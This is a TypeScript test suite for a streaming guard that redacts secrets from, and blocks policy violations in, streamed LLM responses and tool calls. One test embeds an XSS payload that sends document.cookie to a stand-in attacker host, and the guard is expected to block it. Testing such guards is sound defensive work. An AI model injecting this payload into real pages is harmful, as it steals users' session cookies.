import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { z } from "zod";
import type { RecordedMatch, ReleasedRecord } from "@parapet/model";
import {
  brokenInspector,
  decoderOf,
  noPolicies,
  openAiDecoder,
  openRoad,
  policies,
  rawEvent,
  requestOf,
  NO_CONTEXT,
  SECRET,
  type RoadOptions,
  type TestRoad,
} from "./pipeline.fixture.ts";
import { applyReplacements, redactionLabel, toReplacements } from "./redact.ts";
import type { Outgoing, RawEvent } from "./stream-events.ts";
import { createStreamGuard, type GuardOutput } from "./stream-guard.ts";

const Chunk = z.object({
  choices: z.array(
    z.object({
      index: z.int(),
      delta: z.object({
        content: z.string().nullish(),
        tool_calls: z
          .array(z.object({ index: z.int(), function: z.object({ arguments: z.string().optional() }) }))
          .optional(),
      }),
      finish_reason: z.string().nullable().optional(),
    }),
  ),
});

interface Piece {
  readonly choice: number;
  /** Undefined: content. */
  readonly call?: number;
  readonly text: string;
}

const chunk = (choice: object): RawEvent =>
  rawEvent(
    JSON.stringify({ id: "c-1", object: "chat.completion.chunk", created: 1, model: "gpt-test", choices: [choice] }),
  );

const contentOf = ({ choice, text }: Piece): RawEvent =>
  chunk({ index: choice, delta: { content: text }, finish_reason: null });

const argumentsOf = ({ choice, call = 0, text }: Piece, isFirst: boolean): RawEvent => {
  const head = isFirst ? { id: `call-${choice}-${call}`, type: "function" } : {};
  const named = isFirst ? { name: `tool_${call}` } : {};
  return chunk({
    index: choice,
    delta: { tool_calls: [{ index: call, ...head, function: { ...named, arguments: text } }] },
    finish_reason: null,
  });
};

const finishOf = (choice: number, reason = "stop"): RawEvent =>
  chunk({ index: choice, delta: {}, finish_reason: reason });
const DONE = rawEvent("[DONE]");

/** A stream of these pieces in this order, then the end of each choice, then the protocol's end. */
const streamOf = (pieces: readonly Piece[]): RawEvent[] => {
  const begun = new Set<string>();
  const events = pieces.map((piece) => {
    if (piece.call === undefined) return contentOf(piece);
    const name = `${piece.choice}/${piece.call}`;
    const isFirst = !begun.has(name);
    begun.add(name);
    return argumentsOf(piece, isFirst);
  });
  const choices = [...new Set(pieces.map(({ choice }) => choice))];
  return [...events, ...choices.map((choice) => finishOf(choice)), DONE];
};

interface Run extends TestRoad {
  readonly outputs: readonly GuardOutput[];
  readonly sent: readonly Outgoing[];
  /** What a client puts together, by `choice` or `choice/call`. */
  readonly texts: ReadonlyMap<string, string>;
  /** For each output that let something go: how many records were durable by then. */
  readonly recordsBefore: readonly { readonly output: GuardOutput; readonly records: number }[];
}

const dataOf = (one: Outgoing): string =>
  one.kind === "data"
    ? one.data
    : one.raw
        .toString("utf8")
        .replace(/^data: /, "")
        .trimEnd();

const collect = (sent: readonly Outgoing[]): Map<string, string> => {
  const texts = new Map<string, string>();
  const add = (name: string, text: string): void => {
    texts.set(name, (texts.get(name) ?? "") + text);
  };
  for (const one of sent) {
    const data = dataOf(one);
    if (data === "[DONE]") continue;
    for (const { index, delta } of Chunk.parse(JSON.parse(data)).choices) {
      if (typeof delta.content === "string") add(String(index), delta.content);
      for (const call of delta.tool_calls ?? []) add(`${index}/${call.index}`, call.function.arguments ?? "");
    }
  }
  return texts;
};

const run = async (events: readonly RawEvent[], options: RoadOptions = {}): Promise<Run> => {
  const road = openRoad(options);
  road.exchange.judgeRequest(requestOf(["hello"]), NO_CONTEXT);
  const guard = createStreamGuard(road.exchange, openAiDecoder());
  const outputs: GuardOutput[] = [];
  const recordsBefore: { output: GuardOutput; records: number }[] = [];
  for (const event of events) {
    const output = await guard.push(event);
    outputs.push(output);
    if (output.outgoing.length > 0) recordsBefore.push({ output, records: road.recorder.log.length });
    if (output.stopped !== undefined || output.done) break;
  }
  const sent = outputs.flatMap(({ outgoing }) => outgoing);
  return { ...road, outputs, sent, texts: collect(sent), recordsBefore };
};

const released = ({ recorder }: TestRoad): ReleasedRecord[] =>
  recorder.log.filter((record) => record.kind === "released");

const cutInto = (text: string, cuts: readonly number[]): string[] => {
  // A pair cut in two is no JSON text that a decoder takes.
  const whole = (at: number): number => (/[\udc00-\udfff]/.test(text.charAt(at)) ? at - 1 : at);
  const places = [...new Set([0, ...cuts.map((cut) => whole(cut % (text.length + 1))), text.length])].sort(
    (a, b) => a - b,
  );
  return places.slice(1).map((end, index) => text.slice(places[index], end));
};

const words = fc
  .array(
    fc.constantFrom("the", "weather", "is", "fine", "in", "Graz", "\u{1F600}", "naïve", "-", "key:", "sk-", "a1", "\n"),
    { maxLength: 30 },
  )
  .map((list) => list.join(" "));
const textWithSecrets = fc
  .array(fc.oneof(words, fc.constant(` ${SECRET} `)), { minLength: 1, maxLength: 4 })
  .map((parts) => parts.join(""));
const cuts = fc.array(fc.nat({ max: 4_000 }), { maxLength: 40 });

/** Secrets as the whole text shows them, replaced. */
const cleaned = (text: string): string => {
  const spans = [...text.matchAll(new RegExp(SECRET, "g"))].map((match) => ({
    start: match.index,
    end: match.index + SECRET.length,
  }));
  return spans.reduceRight((rest, { start, end }) => `${rest.slice(0, start)}${LABEL}${rest.slice(end)}`, text);
};
const LABEL = redactionLabel({ type: "anthropic-api-key" });

describe("a stream of text", () => {
  test("the planted secret is one that the detectors know", async () => {
    const { exchange } = openRoad();
    const step = exchange.judgeRequest(requestOf([`my key is ${SECRET} ok`]), NO_CONTEXT);
    expect(step.verdict.action).toBe("redact");
    expect([...step.replacements.values()].flat().map(({ replacement }) => replacement)).toEqual([LABEL]);
  });

  test("cut anywhere, what is released is the text with its secrets replaced, whole and in order", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(textWithSecrets, cuts), { minLength: 1, maxLength: 3 }),
        fc.infiniteStream(fc.nat()),
        async (choices, shuffle) => {
          const queues = choices.map(([text, at], choice) =>
            cutInto(text, at).map((piece): Piece => ({ choice, text: piece })),
          );
          const pieces = interleave(queues, shuffle);
          const { texts, outputs } = await run(streamOf(pieces));
          expect(outputs.at(-1)?.done).toBe(true);
          for (const [choice, [text]] of choices.entries()) expect(texts.get(String(choice)) ?? "").toBe(cleaned(text));
        },
      ),
      { numRuns: 60 },
    );
  });

  test("a secret cut at every position leaves no unit of itself in any event", async () => {
    const before = "The key is ";
    for (let cut = 0; cut <= SECRET.length; cut += 1) {
      const pieces = [before + SECRET.slice(0, cut), SECRET.slice(cut), " and more words after it"].map((text) => ({
        choice: 0,
        text,
      }));
      const { texts, sent } = await run(streamOf(pieces));
      expect(texts.get("0")).toBe(`${before}${LABEL} and more words after it`);
      for (const one of sent) expect(dataOf(one)).not.toContain(SECRET.slice(0, 8));
    }
  });

  test("events in which nothing changes are the very bytes that came", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.stringMatching(/^[a-z ,.]{1,20}$/), { minLength: 1, maxLength: 12 }),
        async (texts) => {
          const events = streamOf(texts.map((text) => ({ choice: 0, text: `${text}\n` })));
          const { sent } = await run(events, { policies: noPolicies, route: { inspect: false } });
          expect(sent.map((one) => one.kind)).toEqual(events.map(() => "raw"));
          expect(Buffer.concat(sent.map((one) => (one.kind === "raw" ? one.raw : Buffer.alloc(0))))).toEqual(
            Buffer.concat(events.map(({ raw }) => raw ?? Buffer.alloc(0))),
          );
        },
      ),
      { numRuns: 30 },
    );
  });

  test("an event whose bytes hold something uninspected is written anew", async () => {
    const [event, ...rest] = streamOf([{ choice: 0, text: "hello\n" }]);
    const { sent } = await run([{ data: event?.data ?? "", raw: undefined }, ...rest]);
    expect(sent[0]).toEqual({ kind: "data", data: event?.data });
  });

  test("a stopping policy lets nothing go after it, and nothing of what it stopped", async () => {
    const bad = "<script>fetch('https://evil.example/?c='+document.cookie)</script>";
    await fc.assert(
      fc.asyncProperty(words, cuts, async (text, at) => {
        const pieces = cutInto(`${text}\n${bad} tail tail`, at).map((piece) => ({ choice: 0, text: piece }));
        const result = await run(streamOf(pieces));
        const last = result.outputs.at(-1);
        expect(last?.stopped?.action).toBe("block");
        expect(last?.outgoing).toEqual([]);
        expect(result.texts.get("0") ?? "").not.toContain("document.cookie");
        expect(released(result).at(-1)?.what).toBe("block");
      }),
      { numRuns: 30 },
    );
  });

  test("the first byte and every redaction are durable before what needs them is let go", async () => {
    const text = `one ${SECRET} two ${"words ".repeat(80)} three ${SECRET} four ${"words ".repeat(80)}`;
    const result = await run(
      streamOf(
        cutInto(
          text,
          Array.from({ length: 60 }, (_, index) => index * 23),
        ).map((piece) => ({ choice: 0, text: piece })),
      ),
    );
    expect(result.texts.get("0")).toBe(cleaned(text));
    expect(released(result)[0]?.what).toBe("first-byte");
    let labels = 0;
    for (const { output, records } of result.recordsBefore) {
      expect(records).toBeGreaterThan(0);
      labels += output.outgoing.filter((one) => dataOf(one).includes(LABEL)).length;
      const durable = result.recorder.log
        .slice(0, records)
        .flatMap((record) => (record.kind === "released" && record.what === "redaction" ? record.matches : []));
      expect(spansOf(durable)).toBeGreaterThanOrEqual(labels);
    }
    expect(labels).toBe(2);
  });

  test("a stream that ends without its end still has its held text inspected, recorded and redacted", async () => {
    const road = openRoad();
    const guard = createStreamGuard(road.exchange, openAiDecoder());
    const first = await guard.push(contentOf({ choice: 0, text: `see ${SECRET}` }));
    const last = await guard.end();
    expect(collect([...first.outgoing, ...last.outgoing]).get("0")).toBe(`see ${LABEL}`);
    expect(released(road).map(({ what }) => what)).toEqual(["first-byte", "redaction"]);
    expect(last.done).toBe(false);
  });

  test("on an observing route the secret passes and the verdict says what would have happened", async () => {
    const text = `see ${SECRET} there`;
    const result = await run(streamOf([{ choice: 0, text }]), { route: { mode: "observe" } });
    expect(result.texts.get("0")).toBe(text);
    expect(result.exchange.verdict()).toMatchObject({ action: "observe", would: "redact", policy: "redact-secret" });
  });
});

describe("a stream of very many texts", () => {
  const event = (texts: number): RawEvent => {
    const metadata = { said: Array.from({ length: texts }, () => "a") };
    return rawEvent(JSON.stringify({ jsonrpc: "2.0", id: 1, result: { statusUpdate: { metadata } } }));
  };
  const open = () => createStreamGuard(openRoad({ route: { inspect: false } }).exchange, decoderOf("a2a"));
  const tooLarge = expect.objectContaining({ code: "upstream_too_large" });

  test("ends where one event has more of them than an event may", async () => {
    await expect(open().push(event(4_096))).resolves.toMatchObject({ done: false });
    await expect(open().push(event(4_097))).rejects.toThrow(tooLarge);
  });

  test("ends where all its events have more of them than a stream may", async () => {
    const guard = open();
    for (let times = 0; times < 4; times += 1) await guard.push(event(4_096));
    await expect(guard.push(event(1))).rejects.toThrow(tooLarge);
  });

  test("counts each of them as more than its letters", async () => {
    const guard = open();
    await guard.push(event(1));
    const one = guard.heldBytes();
    await guard.push(event(1_000));
    expect(guard.heldBytes() - one).toBeGreaterThan(1_000 * 4_096);
  });
});

describe("a stream in which very much is found", () => {
  /** The real policies, with how many matches each question listed. */
  const watched = () => {
    const listed: number[] = [];
    const counted: number[] = [];
    const decide: typeof policies.decide = (question) => {
      listed.push(question.matches.length);
      counted.push(question.matches.length + (question.unlisted?.["secret"] ?? 0));
      return policies.decide(question);
    };
    return { listed, counted, set: { ...policies, decide } };
  };
  const MANY = 200;
  const words = Array.from({ length: MANY }, () => `${SECRET} and so on and so forth, `);

  test("is decided about by what is new, redacted whole, and every match counts", async () => {
    const { listed, counted, set } = watched();
    const result = await run(streamOf(words.map((text) => ({ choice: 0, text }))), { policies: set });
    expect(result.texts.get("0")).toBe(words.join("").replaceAll(SECRET, LABEL));
    expect(Math.max(...listed)).toBeLessThan(20);
    expect(Math.max(...counted)).toBe(MANY);
  });

  test("while a tool call is put together is decided about now and then, and before anything is let go", async () => {
    const { listed, counted, set } = watched();
    const call = { choice: 0, call: 0, text: "{" };
    const pieces = [call, ...words.map((text) => ({ choice: 1, text })), { ...call, text: "}" }];
    const result = await run(streamOf(pieces), { policies: set });
    expect(result.texts.get("1")).toBe(words.join("").replaceAll(SECRET, LABEL));
    expect(Math.max(...counted)).toBe(MANY);
    expect(listed.reduce((sum, one) => sum + one, 0)).toBeLessThan(MANY * 20);
  });
});

test.each([
  ["with one choice and its end", [contentOf({ choice: 0, text: "a" }), finishOf(0)], true],
  ["with one choice and no end", [contentOf({ choice: 0, text: "a" })], false],
  [
    "with two choices and the end of one",
    [contentOf({ choice: 0, text: "a" }), contentOf({ choice: 1, text: "b" }), finishOf(0)],
    false,
  ],
  [
    "with two choices and the end of both",
    [contentOf({ choice: 0, text: "a" }), contentOf({ choice: 1, text: "b" }), finishOf(1), finishOf(0)],
    true,
  ],
  ["with the protocol's end", [contentOf({ choice: 0, text: "a" }), contentOf({ choice: 1, text: "b" }), DONE], true],
])("a stream %s is whole: told rightly", async (_, events, isWhole) => {
  const guard = createStreamGuard(openRoad().exchange, openAiDecoder());
  for (const event of events) await guard.push(event);
  await guard.end();
  expect(guard.summary().isWhole).toBe(isWhole);
});

const spansOf = (matches: readonly RecordedMatch[]): number => toReplacements(matches).length;

const interleave = <T>(queues: T[][], shuffle: fc.Stream<number>): T[] => {
  const left = queues.map((queue) => [...queue]);
  const all: T[] = [];
  for (;;) {
    const open = left.filter((queue) => queue.length > 0);
    if (open.length === 0) return all;
    const { value } = shuffle.next();
    const next = open[(typeof value === "number" ? value : 0) % open.length]?.shift();
    if (next !== undefined) all.push(next);
  }
};

describe("tool calls in a stream", () => {
  test("parallel calls that come in turns keep their arguments, and unchanged events are the bytes that came", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(
          fc.tuple(
            fc.record({ city: words }).map((value) => JSON.stringify(value)),
            cuts,
          ),
          { minLength: 1, maxLength: 3 },
        ),
        words,
        fc.infiniteStream(fc.nat()),
        async (calls, content, shuffle) => {
          const queues = calls.map(([text, at], call) =>
            cutInto(text, at).map((piece): Piece => ({ choice: 0, call, text: piece })),
          );
          const events = streamOf([{ choice: 0, text: `${content}\n` }, ...interleave(queues, shuffle)]);
          const { texts, sent } = await run(events, { policies: noPolicies });
          for (const [call, [text]] of calls.entries()) expect(texts.get(`0/${call}`)).toBe(text);
          const calling = events.filter(({ data }) => data.includes("tool_calls"));
          const raws = new Set(sent.filter((one) => one.kind === "raw").map(dataOf));
          for (const { data } of calling) expect(raws.has(data)).toBe(true);
        },
      ),
      { numRuns: 40 },
    );
  });

  test("nothing of a call is let go before it was judged and its release is durable", async () => {
    const pieces = ['{"city":', '"Graz"}'].map((text) => ({ choice: 0, call: 0, text }));
    const result = await run(streamOf(pieces));
    expect(result.outputs.slice(0, 2).flatMap(({ outgoing }) => outgoing)).toEqual([]);
    expect(result.recordsBefore[0]?.records).toBe(2);
    expect(released(result).map(({ what, toolCall }) => [what, toolCall?.name])).toEqual([
      ["tool-call", "tool_0"],
      ["first-byte", undefined],
    ]);
  });

  test("a call that policy blocks ends the stream with nothing of it sent", async () => {
    const argument = JSON.stringify({ header: `Bearer ${SECRET}` });
    const pieces = cutInto(argument, [5, 40, 77]).map((text) => ({ choice: 0, call: 0, text }));
    const result = await run(streamOf([{ choice: 0, text: "I will call it.\n" }, ...pieces]));
    expect(result.outputs.at(-1)?.stopped).toMatchObject({ action: "block", policy: "block-secret-in-call" });
    expect(result.texts.has("0/0")).toBe(false);
    expect(released(result).map(({ what }) => what)).not.toContain("tool-call");
  });

  test("arguments that grow without end are refused, not kept", async () => {
    const text = "x".repeat(512 * 1024);
    const events = Array.from({ length: 10 }, (_, index) => argumentsOf({ choice: 0, call: 0, text }, index === 0));
    await expect(run(events, { route: { inspect: false } })).rejects.toThrow(
      expect.objectContaining({ code: "not_inspected" }),
    );
  });

  test("arguments that go on after their call was judged are refused", async () => {
    const first = argumentsOf({ choice: 0, call: 0, text: '{"a":1}' }, true);
    const later = argumentsOf({ choice: 0, call: 0, text: ',"b":"x"' }, false);
    await expect(run([first, finishOf(0, "tool_calls"), later, DONE])).rejects.toThrow(
      expect.objectContaining({ code: "upstream_invalid" }),
    );
  });
});

describe("a stream that cannot be inspected", () => {
  const events = streamOf([
    { choice: 0, text: "hello there, how are you today?\n" },
    { choice: 0, text: "and more\n" },
  ]);
  const image = [
    chunk({
      index: 0,
      delta: { content: "see\n", images: [{ type: "image_url", image_url: { url: "data:image/png;base64,AAAA" } }] },
      finish_reason: null,
    }),
    finishOf(0),
    DONE,
  ];
  const closed = { route: { on_failure: "closed" as const } };

  test.each([
    [
      "a detector that fails, closed",
      events,
      { ...closed, inspector: brokenInspector("failed") },
      "block",
      "builtin.inspection-failed",
    ],
    [
      "a detector that fails, open",
      events,
      { route: { on_failure: "open" as const }, inspector: brokenInspector("failed") },
      "allow",
      undefined,
    ],
    [
      "a text that cannot be read on, closed",
      events,
      { ...closed, inspector: brokenInspector("unscannable") },
      "block",
      "builtin.unscannable-text",
    ],
    [
      "an image, refused by the route",
      image,
      { route: { unscannable: "block" as const } },
      "block",
      "builtin.unscannable-content",
    ],
    ["an image, allowed by the route", image, { route: { unscannable: "allow" as const } }, "allow", undefined],
  ])("%s: the route decides", async (_, stream, options, action, policy) => {
    const result = await run(stream, { ...options, policies: noPolicies });
    expect(result.exchange.verdict().action).toBe(action);
    expect(result.exchange.verdict().policy).toBe(policy);
    if (action === "block") expect(result.sent).toEqual([]);
    await result.exchange.close({ state: "completed", status: 200, responseBytes: 0, waitedMs: 0 });
    const last = result.recorder.log.at(-1);
    expect(last?.kind === "closed" && last.bypassed > 0).toBe(action !== "block" && stream !== image);
    if (stream === image) expect(last).toMatchObject({ unscannable: 1 });
  });
});

test("what is released replaces spans that overlap once, and the same text is reached in any number of steps", () => {
  const matches = [
    { start: 3, end: 9, type: "A" },
    { start: 5, end: 12, type: "B" },
    { start: 20, end: 21, type: "C" },
  ];
  expect(applyReplacements("0123456789abcdefghijklm", toReplacements(matches))).toBe(
    "012[REDACTED:a]cdefghij[REDACTED:c]lm",
  );
});
